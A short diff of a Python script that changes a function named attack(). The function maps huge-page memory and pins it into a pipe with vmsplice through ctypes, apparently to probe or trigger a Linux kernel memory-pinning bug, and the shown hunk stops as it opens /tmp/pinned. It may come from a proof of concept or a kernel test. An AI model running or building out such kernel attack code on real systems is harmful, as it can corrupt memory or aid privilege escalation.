@@ -11,11 +11,11 @@ LIBC = ctypes.CDLL(None)
 
 def attack():
     worked = 0
-    for _ in range(16):
+    for _ in range(4):
         reader, writer = os.pipe()
         memory = mmap.mmap(-1, 4 << 20)
         memory.madvise(mmap.MADV_HUGEPAGE)
-        memory.write(b"x" * len(memory))
+        memory[2 << 20] = memory[0] = 1
         address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
         worked += LIBC.vmsplice(writer, (ctypes.c_void_p * 2)(address, 4096), 1, 0) > 0
         file = os.open("/tmp/pinned", os.O_RDWR | os.O_CREAT)
